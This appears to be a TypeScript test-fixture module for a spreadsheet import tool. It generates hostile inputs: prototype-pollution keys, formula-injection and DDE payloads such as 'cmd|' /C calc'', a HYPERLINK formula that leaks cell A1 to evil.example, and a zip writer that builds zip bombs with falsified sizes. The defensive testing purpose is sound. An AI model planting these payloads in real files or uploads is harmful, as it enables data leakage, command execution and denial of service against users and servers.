/**
 * Hostile and broken inputs, generated (never checked in) so that a new variant is one line in a table. Each
 * generator is small and deterministic; the zip writer lets a test declare sizes that lie.
 */
import JSZip from "jszip";
import { deflateRawSync, constants as zlib } from "node:zlib";

/** Names that find Object.prototype's members in a plain object lookup. */
export const PROTOTYPE_KEYS = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "isPrototypeOf",
  "__defineGetter__",
  " __PROTO__ ",
  "Constructor",
] as const;

/** Prefixes a spreadsheet reads as the start of a formula (and DDE / hyperlink payloads built on them). */
export const FORMULA_PREFIXES = ["=", "+", "-", "@", "\t=", "\r=", "=", "+"] as const;

/** Texts that would run as formulas if written through `range.formulas` or an XML `<f>` element. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=WEBSERVICE("http://evil.example/")',
  "=1+1",
] as const;

/**
 * Text Excel turns into something else when it arrives through `range.values` as if typed: numbers (a department
 * code `0012`, `1e5`, a bare `3.12%`), dates and times, booleans. Whole strings: `3.12%左右` stays text anyway.
 */
export const NUMBER_LIKE_TEXTS = [
  "3.12%",
  "0012",
  "1e5",
  "2025-06-30",
  "TRUE",
  "false",
  "1,000",
  "(12)",
  ".5",
  "6/30",
  "2025/6/30",
  "2025年6月30日",
  "6月30日",
  "10:30",
  "Jun 30",
  " 75 ",
] as const;

/** Character references no code point answers: a naive String.fromCodePoint throws RangeError on them. */
export const BAD_CHARACTER_REFERENCES = ["&#99999999;", "&#x110000;", "&#1114112;", "&#xFFFFFFFFF;", "&#0;"] as const;

export interface ZipEntry {
  readonly name: string;
  /** The part's bytes, or a run of `zeros` bytes deflated block by block without ever holding them. */
  readonly data?: Uint8Array | string;
  readonly zeros?: number;
  /** Declared uncompressed size, when it should lie (a bomb hiding its size). */
  readonly declaredSize?: number;
  /** Bytes written as the part's compressed data as they are (a damaged stream). */
  readonly compressed?: Uint8Array;
}

const ZERO_BLOCK = 1 << 20;
let zeroChunk: Buffer | undefined;

/** Raw deflate of `n` zero bytes, built from one sync-flushed 1 MiB chunk repeated (≈1 KB per MiB). */
function deflatedZeros(n: number): Buffer {
  zeroChunk ??= deflateRawSync(Buffer.alloc(ZERO_BLOCK), { finishFlush: zlib.Z_SYNC_FLUSH, level: 9 });
  const whole = Math.floor(n / ZERO_BLOCK);
  const rest = n - whole * ZERO_BLOCK;
  const parts: Buffer[] = Array.from({ length: whole }, () => zeroChunk as Buffer);
  parts.push(deflateRawSync(Buffer.alloc(rest), { level: 9 })); // the final block
  return Buffer.concat(parts);
}

/**
 * A zip package written by hand (stored CRCs are 0: readers that check them refuse, which is also a refusal).
 *
 * @example zipOf([{ name: "xl/worksheets/sheet1.xml", zeros: 2 ** 31 }]) // ≈2 MB that inflate to 2 GiB
 */
export function zipOf(entries: readonly ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, "utf8");
    const raw =
      entry.zeros !== undefined
        ? undefined
        : typeof entry.data === "string"
          ? Buffer.from(entry.data, "utf8")
          : Buffer.from(entry.data ?? new Uint8Array());
    const compressed =
      entry.compressed !== undefined
        ? Buffer.from(entry.compressed)
        : raw === undefined
          ? deflatedZeros(entry.zeros ?? 0)
          : deflateRawSync(raw);
    const size = entry.declaredSize ?? (raw === undefined ? (entry.zeros ?? 0) : raw.length);
    const clamp = (n: number) => Math.min(n, 0xffffffff);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(8, 8); // deflate
    local.writeUInt32LE(0, 14);
    local.writeUInt32LE(compressed.length, 18);
    local.writeUInt32LE(clamp(size), 22);
    local.writeUInt16LE(name.length, 26);
    locals.push(local, name, compressed);
    const head = Buffer.alloc(46);
    head.writeUInt32LE(0x02014b50, 0);
    head.writeUInt16LE(20, 4);
    head.writeUInt16LE(20, 6);
    head.writeUInt16LE(0x0800, 8);
    head.writeUInt16LE(8, 10);
    head.writeUInt32LE(0, 16);
    head.writeUInt32LE(compressed.length, 20);
    head.writeUInt32LE(clamp(size), 24);
    head.writeUInt16LE(name.length, 28);
    head.writeUInt32LE(offset, 42);
    central.push(head, name);
    offset += 30 + name.length + compressed.length;
  }
  const dir = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, dir, end]);
}

/**
 * A package rewritten part by part: `change` returns a part's replacement (an entry without its name), `null` to
 * drop it, or undefined to keep it; `add` appends parts. One line per hostile variant of a real workbook.
 */
export async function rezip(
  bytes: Uint8Array,
  change: (
    name: string,
    text: () => Promise<string>,
  ) => Promise<Omit<ZipEntry, "name"> | null | undefined> | Omit<ZipEntry, "name"> | null | undefined,
  add: readonly ZipEntry[] = [],
): Promise<Buffer> {
  const zip = await JSZip.loadAsync(bytes);
  const entries: ZipEntry[] = [];
  for (const file of Object.values(zip.files)) {
    if (file.dir) continue;
    const replaced = await change(file.name, () => file.async("string"));
    if (replaced === null) continue;
    entries.push(
      replaced === undefined
        ? { name: file.name, data: await file.async("uint8array") }
        : { name: file.name, ...replaced },
    );
  }
  return zipOf([...entries, ...add]);
}

/** Bytes that are no text: what a binary file renamed .txt holds. */
export function binaryBytes(length: number, seed = 7): Buffer {
  const out = Buffer.alloc(length);
  let x = seed;
  for (let i = 0; i < length; i++) {
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    out[i] = x >> 16;
  }
  return out;
}
